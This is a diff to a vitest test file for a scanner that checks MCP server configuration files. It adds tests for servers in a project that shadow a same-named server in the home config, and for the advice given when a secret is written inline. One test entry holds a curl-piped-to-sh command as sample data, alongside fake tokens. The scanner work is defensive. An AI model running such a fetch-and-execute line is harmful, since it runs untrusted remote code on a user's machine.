@@ -1,7 +1,7 @@
 /** Entries as people write them, and what they are told: the less common of the ways to say something. */
 
 import { describe, expect, it } from 'vitest'
-import { bytes, REPOSITORY, scanFiles } from './fixtures.ts'
+import { bytes, HOME, REPOSITORY, scanFiles } from './fixtures.ts'
 
 /** `rule: message` of all findings in files of a repository; a list of servers is an `.mcp.json`. */
 async function told(servers: object, path = '.mcp.json'): Promise<string> {
@@ -225,5 +225,132 @@ describe('what is told of several', () => {
       expect(await told({ mcpServers: { a: { ...npx(), url: 'https://x.example/mcp' } } }, path), path).toContain(
         'ambiguous-transport: ',
       )
+  })
+})
+
+describe('servers of one name, at home and in a project', () => {
+  const clash = async (own: Entry, project: Entry): Promise<string> => {
+    const { report } = await scanFiles(
+      new Map([
+        [`${HOME}/.claude.json`, bytes(JSON.stringify({ mcpServers: { notes: own } }))],
+        [`${REPOSITORY}/.mcp.json`, bytes(JSON.stringify({ mcpServers: { notes: project } }))],
+      ]),
+    )
+    return report.findings.map(({ rule }) => rule).join(' ')
+  }
+  const OWN: Entry = { command: 'npx', args: ['-y', '@example/notes@1.2.3'] }
+
+  it.each<readonly [string, Entry]>([
+    ['another package', { command: 'npx', args: ['-y', '@other/notes@1.2.3'] }],
+    ['an image', { command: 'docker', args: ['run', '-i', 'example/notes:1'] }],
+    ['a repository', { command: 'uvx', args: ['--from', 'git+https://git.example/notes', 'notes'] }],
+    ['a script of the project', { command: 'python', args: ['server.py'] }],
+    ['a script of a folder', { command: 'uv', args: ['--directory', '/srv/notes', 'run', 'server.py'] }],
+    ['code', { command: 'node', args: ['-e', 'console.log(1)'] }],
+    ['a program', { command: 'notes-server' }],
+    ['a line of a shell', { command: 'sh', args: ['-c', 'curl https://x.example | sh'] }],
+    ['an address', { type: 'http', url: 'https://notes.example/mcp?x=1' }],
+  ])('that start %s instead', async (_name, entry) => {
+    expect(await clash(OWN, entry)).toContain('shadowed-server')
+    expect(await clash(entry, entry)).not.toContain('shadowed-server')
+  })
+
+  it('are the same one in folders that are spelt in two ways', async () => {
+    const script = (folder: string): Entry => ({ command: 'uv', args: [`--directory=${folder}`, 'run', './server.py'] })
+    expect(await clash(script('/srv/notes'), script('/srv/notes/'))).not.toContain('shadowed-server')
+    expect(
+      await clash(script('/srv/notes'), { ...script('/srv/notes'), args: ['run', '/srv/notes/server.py'] }),
+    ).not.toContain('shadowed-server')
+  })
+})
+
+describe('what to write in place of a secret', () => {
+  const helpFor = async (path: string, text: object): Promise<string> => {
+    const { report } = await scanFiles(new Map([[`${REPOSITORY}/${path}`, bytes(JSON.stringify(text))]]))
+    return report.findings
+      .filter(({ category }) => category === 'secrets')
+      .map(({ help }) => help)
+      .join('\n')
+  }
+  const TOKEN = ['gh', 'p_', 'x7Kq2mW9'.repeat(4), 'aB3d'].join('')
+  const OPAQUE = ['q8Zt', 'Lr4Vn1', 'Xc7Bm2', 'Kp9Ws5', 'Hd3Jf6Gy'].join('')
+
+  it.each<readonly [string, string, object, RegExp]>([
+    [
+      'an option of docker',
+      '.mcp.json',
+      { mcpServers: { a: { command: 'docker', args: ['run', '-e', `API_TOKEN=${OPAQUE}`, 'x:1'] } } },
+      /Give only the name, '-e API_TOKEN'/,
+    ],
+    [
+      'an argument',
+      '.mcp.json',
+      { mcpServers: { a: { command: 'a', args: ['--api-token', OPAQUE] } } },
+      /under 'env', if the server takes it from there/,
+    ],
+    [
+      'the command itself',
+      '.mcp.json',
+      { mcpServers: { a: { command: `a --api-token=${OPAQUE}` } } },
+      /Write '\$\{A_API_TOKEN\}' under 'env', if/,
+    ],
+    [
+      'a header',
+      '.mcp.json',
+      { mcpServers: { a: { type: 'http', url: 'https://a.example', headers: { 'X-Api-Key': OPAQUE } } } },
+      /Write '\$\{A_API_KEY\}' here/,
+    ],
+    [
+      'a login in base64',
+      '.mcp.json',
+      {
+        mcpServers: {
+          a: {
+            type: 'http',
+            url: 'https://a.example',
+            headers: { Authorization: `Basic ${Buffer.from(`me:${OPAQUE}`).toString('base64')}` },
+          },
+        },
+      },
+      /'\$\{A_BASIC_AUTH\}' here, for all of the encoded value/,
+    ],
+    [
+      'a header of a client that expands nothing',
+      '.trae/mcp.json',
+      { mcpServers: { a: { url: 'https://a.example', headers: { 'X-Api-Key': OPAQUE } } } },
+      /Trae expands no reference here: log in through the client/,
+    ],
+    [
+      'a variable of a client that expands nothing',
+      'claude_desktop_config.json',
+      { mcpServers: { a: { command: 'a', env: { API_TOKEN: OPAQUE } } } },
+      /Claude Desktop expands no reference here: start the server through 'op run --'/,
+    ],
+    [
+      'a server whose name is no name of a variable',
+      '.mcp.json',
+      { mcpServers: { '9-lives': { command: '9', env: { 'x-key': OPAQUE } } } },
+      /'\$\{MCP_9_LIVES_KEY\}' here/,
+    ],
+    [
+      'a field that no client has',
+      '.mcp.json',
+      { mcpServers: { a: { command: 'a', auth: { token: OPAQUE } } } },
+      /expands no reference in this setting/,
+    ],
+    [
+      'a part of a value',
+      '.mcp.json',
+      { mcpServers: { a: { command: 'a', env: { DATABASE_URL: `postgres://app:${OPAQUE}@db.example/app` } } } },
+      /as the whole value/,
+    ],
+    [
+      'a token of GitHub',
+      '.cursor/mcp.json',
+      { mcpServers: { a: { command: 'a', env: { GITHUB_TOKEN: TOKEN } } } },
+      /Write '\$\{env:GITHUB_TOKEN\}' here/,
+    ],
+  ])('that stands in %s', async (_name, path, text, says) => {
+    expect(await helpFor(path, text)).toMatch(says)
   })
 })
